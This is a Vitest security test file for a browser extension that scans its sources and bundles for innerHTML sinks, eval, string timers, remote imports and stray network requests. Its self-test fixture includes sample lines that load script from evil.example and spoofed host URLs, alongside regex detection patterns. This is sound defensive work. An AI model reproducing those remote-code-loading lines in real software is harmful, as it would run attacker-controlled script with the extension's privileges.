// @vitest-environment node
/**
 * No remote code, no string-to-code, and page-derived text only ever set as
 * text. The panel's DOM and JSON are written by a page that is not ours: a
 * posting's product name reaching `innerHTML` would run the page's (or an
 * attacker's) markup with our extension's trust.
 *
 * The sources are read with the TypeScript parser, not grepped, so comments
 * and strings that merely mention `innerHTML` do not count and
 * `el['inner' + 'HTML']` style dodges are caught as computed writes.
 *
 * Allowlist: `ALLOW` below, each entry with the reason. It holds one entry (the lazy chunks'
 * loader, whose URL can only be one of the extension's own three files); keep it that small.
 */
import { describe, expect, it } from 'vitest';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import ts from 'typescript';

const ROOT = path.resolve(import.meta.dirname, '../..');
const SOURCE_DIRS = ['rules', 'panel', 'lib', 'components', 'entrypoints'];

/** `relative/path.ts:kind` → why it is safe. */
const ALLOW: Record<string, string> = {
  'components/overlay/lazy.ts:dynamic import of a non-literal or URL':
    "the content script's lazy chunks: the URL is browser.runtime.getURL of one of the three constant LAZY_FILES, " +
    'i.e. a file packaged in the extension (pinned in web_accessible_resources by test/security/manifest.test.ts); never a remote URL, which MV3 refuses anyway',
};

function walk(dir: string, exts: RegExp): string[] {
  if (!existsSync(dir)) return [];
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const p = path.join(dir, name);
    const st = statSync(p);
    if (st.isDirectory()) out.push(...walk(p, exts));
    else if (exts.test(name)) out.push(p);
  }
  return out;
}

export interface Finding {
  file: string;
  line: number;
  kind: string;
  text: string;
}

const HTML_SINKS = new Set(['innerHTML', 'outerHTML', 'insertAdjacentHTML', 'srcdoc', 'createContextualFragment', 'setHTMLUnsafe', 'parseHTMLUnsafe']);
const DOC_WRITE = new Set(['write', 'writeln']);
const TIMERS = new Set(['setTimeout', 'setInterval']);

/** Every dangerous construct in one TypeScript/TSX source text. */
export function scanSource(file: string, text: string): Finding[] {
  const sf = ts.createSourceFile(file, text, ts.ScriptTarget.Latest, true, file.endsWith('x') ? ts.ScriptKind.TSX : ts.ScriptKind.TS);
  const found: Finding[] = [];
  const add = (node: ts.Node, kind: string) => {
    const { line } = sf.getLineAndCharacterOfPosition(node.getStart(sf));
    found.push({ file, line: line + 1, kind, text: node.getText(sf).slice(0, 120) });
  };
  const nameOf = (n: ts.Node): string | undefined => {
    if (ts.isIdentifier(n) || ts.isPrivateIdentifier(n)) return n.text;
    if (ts.isStringLiteralLike(n)) return n.text;
    return undefined;
  };
  const visit = (node: ts.Node) => {
    // el.innerHTML / el['innerHTML'] / el.insertAdjacentHTML(...)
    if (ts.isPropertyAccessExpression(node)) {
      const n = node.name.text;
      if (HTML_SINKS.has(n)) add(node, n);
      if (DOC_WRITE.has(n) && /(^|\.)document$/.test(node.expression.getText(sf))) add(node, 'document.write');
    }
    if (ts.isElementAccessExpression(node)) {
      const arg = node.argumentExpression;
      const n = nameOf(arg);
      if (n && HTML_SINKS.has(n)) add(node, n);
      // A computed key built at run time could be anything: only literals are allowed.
      if (!n && !ts.isNumericLiteral(arg) && ts.isBinaryExpression(arg) && arg.operatorToken.kind === ts.SyntaxKind.PlusToken) {
        const joined = arg.getText(sf).replace(/['"`+\s]/g, '');
        if (/HTML/i.test(joined)) add(node, 'computed HTML sink');
      }
    }
    // dangerouslySetInnerHTML as a JSX attribute or an h()/createElement props key.
    if (ts.isJsxAttribute(node) && nameOf(node.name) === 'dangerouslySetInnerHTML') add(node, 'dangerouslySetInnerHTML');
    if ((ts.isPropertyAssignment(node) || ts.isShorthandPropertyAssignment(node)) && nameOf(node.name) === 'dangerouslySetInnerHTML')
      add(node, 'dangerouslySetInnerHTML');
    if (ts.isCallExpression(node)) {
      const callee = node.expression;
      const calleeName = ts.isIdentifier(callee) ? callee.text : ts.isPropertyAccessExpression(callee) ? callee.name.text : undefined;
      if (calleeName === 'eval') add(node, 'eval');
      if (calleeName === 'Function' && ts.isIdentifier(callee)) add(node, 'Function()');
      if (calleeName === 'importScripts') add(node, 'importScripts');
      if (calleeName && TIMERS.has(calleeName)) {
        const a = node.arguments[0];
        if (a && (ts.isStringLiteralLike(a) || ts.isTemplateExpression(a) || (ts.isBinaryExpression(a) && ts.isStringLiteralLike(a.left))))
          add(node, `${calleeName}(string)`);
      }
      // import('https://…'): remote code.
      if (callee.kind === ts.SyntaxKind.ImportKeyword) {
        const a = node.arguments[0];
        if (!a || !ts.isStringLiteralLike(a) || /^[a-z]+:/i.test(a.text)) add(node, 'dynamic import of a non-literal or URL');
      }
    }
    if (ts.isNewExpression(node) && ts.isIdentifier(node.expression) && node.expression.text === 'Function') add(node, 'new Function');
    if (ts.isImportDeclaration(node) && ts.isStringLiteral(node.moduleSpecifier) && /^[a-z]+:\/\//i.test(node.moduleSpecifier.text))
      add(node, 'import from URL');
    // <script src="https://…"> built by hand
    if (ts.isStringLiteralLike(node) && /<script\b[^>]*\bsrc\s*=/i.test(node.text)) add(node, 'script tag in a string');
    ts.forEachChild(node, visit);
  };
  visit(sf);
  return found.filter((f) => !ALLOW[`${path.relative(ROOT, f.file)}:${f.kind}`]);
}

const sources = SOURCE_DIRS.flatMap((d) => walk(path.join(ROOT, d), /\.(ts|tsx|mts)$/)).filter((f) => !f.endsWith('.d.ts'));

describe('our sources: page text only ever set as text; no string-to-code (security)', () => {
  it('finds the sources to scan', () => {
    expect(sources.length).toBeGreaterThan(20);
  });

  it('the scanner catches every construct it claims to (self-test)', () => {
    const bad = `
      el.innerHTML = x; el['outerHTML'] = y; el.insertAdjacentHTML('beforeend', z); el['inner' + 'HTML'] = q;
      document.write(s); window.document.writeln(s);
      eval(code); new Function('a', code); Function(code)(); setTimeout('alert(1)', 0); setInterval(\`x\${1}\`, 9);
      import('https://evil.example/x.js'); importScripts('https://evil.example/y.js');
      const v = h('div', { dangerouslySetInnerHTML: { __html: s } });
      const w = <div dangerouslySetInnerHTML={{ __html: s }} />;
      const t = '<script src="https://evil.example/z.js"></script>';
      iframe.srcdoc = s; range.createContextualFragment(s);
    `;
    const kinds = scanSource('/virtual/bad.tsx', bad).map((f) => f.kind);
    for (const k of [
      'innerHTML', 'outerHTML', 'insertAdjacentHTML', 'computed HTML sink', 'document.write', 'eval', 'new Function', 'Function()',
      'setTimeout(string)', 'setInterval(string)', 'dynamic import of a non-literal or URL', 'importScripts',
      'dangerouslySetInnerHTML', 'script tag in a string', 'srcdoc', 'createContextualFragment',
    ])
      expect(kinds, k).toContain(k);
    // …and leaves the harmless look-alikes alone.
    const fine = `
      // innerHTML is never used here; eval() neither.
      /* el.innerHTML = x */ const s = 'innerHTML'; el.textContent = s; setTimeout(() => f(), 0);
      const fn = new Map(); doc.createTextNode(x); import('./local');
    `;
    expect(scanSource('/virtual/fine.tsx', fine)).toEqual([]);
  });

  it('no innerHTML / outerHTML / insertAdjacentHTML / document.write / dangerouslySetInnerHTML, no eval / new Function / string timers, no remote imports', () => {
    const findings = sources.flatMap((f) => scanSource(f, readFileSync(f, 'utf8')));
    expect(findings.map((f) => `${path.relative(ROOT, f.file)}:${f.line} ${f.kind}: ${f.text}`)).toEqual([]);
  });

  it('no remote code fetched: fetch/XHR in our sources only reach our own packaged files', () => {
    // The interceptor observes the panel's own calls; it never makes one. The background fetches only
    // runtime.getURL(...) (its own locale files). Anything else would be data leaving the browser.
    const offenders: string[] = [];
    for (const f of sources) {
      const text = readFileSync(f, 'utf8');
      const sf = ts.createSourceFile(f, text, ts.ScriptTarget.Latest, true, f.endsWith('x') ? ts.ScriptKind.TSX : ts.ScriptKind.TS);
      const visit = (node: ts.Node) => {
        if (ts.isCallExpression(node) && ts.isIdentifier(node.expression) && node.expression.text === 'fetch') {
          const a = node.arguments[0]?.getText(sf) ?? '';
          // A variable argument is accepted only in a file whose URLs all come from runtime.getURL
          // (the language loaders); the real proof is the stray-request count of the browser tests.
          const ownOnly = /runtime\.getURL\(/.test(text) && !/['"`]https?:\/\/(?!seller\.ozon\.ru)/.test(text);
          // The two exceptions: the reminder channels' sender, which refuses any host but the
          // optional channel hosts (background/channels/send.ts channelFetch; checked below), and the
          // Seller API client, whose every URL is an allowlisted origin + path (background/seller-api/paths.ts;
          // test/background/seller-api/client.test.ts asserts it on every request).
          const channelSender = path.relative(ROOT, f) === path.join('lib', 'channels', 'send.ts') && a === 'url';
          const apiClient = path.relative(ROOT, f).replace(/\\/g, '/') === 'background/seller-api/client.ts';
          if (!channelSender && !/runtime\.getURL\(/.test(a) && !(ts.isIdentifier(node.arguments[0]!) && (ownOnly || apiClient)))
            offenders.push(`${path.relative(ROOT, f)}: fetch(${a})`);
        }
        if (ts.isNewExpression(node) && ts.isIdentifier(node.expression) && /^(XMLHttpRequest|WebSocket|EventSource)$/.test(node.expression.text))
          offenders.push(`${path.relative(ROOT, f)}: new ${node.expression.text}`);
        if (ts.isPropertyAccessExpression(node) && node.name.text === 'sendBeacon') offenders.push(`${path.relative(ROOT, f)}: sendBeacon`);
        ts.forEachChild(node, visit);
      };
      visit(sf);
    }
    expect(offenders).toEqual([]);
  });

  it('the channel sender refuses every host but the optional channel hosts', async () => {
    const { channelFetch } = await import('../../background/channels/send');
    const calls: string[] = [];
    const real = globalThis.fetch;
    globalThis.fetch = (async (u: string) => {
      calls.push(String(u));
      return new Response('{}');
    }) as typeof fetch;
    try {
      const init = { method: 'POST', headers: {}, body: '' };
      for (const bad of ['https://evil.example/x', 'https://api.telegram.org.evil.example/x', 'http://api.telegram.org/x', 'https://seller.ozon.ru/api']) {
        await expect(channelFetch(bad, init), bad).rejects.toThrow('not a channel host');
      }
      await channelFetch('https://api.telegram.org/botX/sendMessage', init);
      expect(calls).toEqual(['https://api.telegram.org/botX/sendMessage']);
    } finally {
      globalThis.fetch = real;
    }
  });

  it('Papa Parse is never asked for its worker mode (its blob-URL worker is the one code-from-string path in a dependency)', () => {
    for (const f of sources) {
      const text = readFileSync(f, 'utf8');
      if (!/papaparse/.test(text)) continue;
      expect(text, path.relative(ROOT, f)).not.toMatch(/\bworker\s*:\s*true/);
    }
  });
});

const OUT_DIRS = [...new Set([process.env.OOG_OUT_DIR, '.output'].filter((d): d is string => !!d))];
const bundles = OUT_DIRS.flatMap((d) =>
  ['chrome-mv3', 'firefox-mv2', 'firefox-mv3'].flatMap((b) => walk(path.join(ROOT, d, b), /\.js$/)),
);

describe('built bundles: no string-to-code, no remote script (security)', () => {
  it.runIf(bundles.length > 0)('no eval / new Function / string timers / importScripts / remote import in any shipped JS', () => {
    const offenders: string[] = [];
    for (const f of bundles) {
      const js = readFileSync(f, 'utf8');
      // Minified code: look for the call shapes themselves. No vendor exemption is needed today —
      // preact, zustand, dayjs, papaparse and @wxt-dev/* ship none of these.
      const patterns: [string, RegExp][] = [
        ['eval', /(?<![\w$.])eval\s*\(/],
        ['new Function', /new\s+Function\s*\(/],
        ['Function()', /(?<![\w$.])Function\s*\(\s*[`'"]/],
        ['string timer', /set(?:Timeout|Interval)\s*\(\s*[`'"]/],
        ['importScripts', /importScripts\s*\(/],
        ['remote import', /import\s*\(\s*[`'"]https?:/],
        ['remote script', /<script[^>]+src\s*=\s*[`'"]?https?:/i],
      ];
      for (const [kind, re] of patterns) {
        const m = re.exec(js);
        if (m) offenders.push(`${path.relative(ROOT, f)}: ${kind}: …${js.slice(Math.max(0, m.index - 40), m.index + 40)}…`);
      }
    }
    expect(offenders).toEqual([]);
  });

  it.runIf(bundles.length > 0)('innerHTML appears in shipped JS only inside Preact\'s dangerouslySetInnerHTML branch (never used by our sources, checked above)', () => {
    for (const f of bundles) {
      const js = readFileSync(f, 'utf8');
      const hits = [...js.matchAll(/innerHTML/g)].map((m) => js.slice(Math.max(0, m.index! - 120), m.index! + 40));
      for (const h of hits) expect(h, path.relative(ROOT, f)).toMatch(/__html/);
    }
  });
});
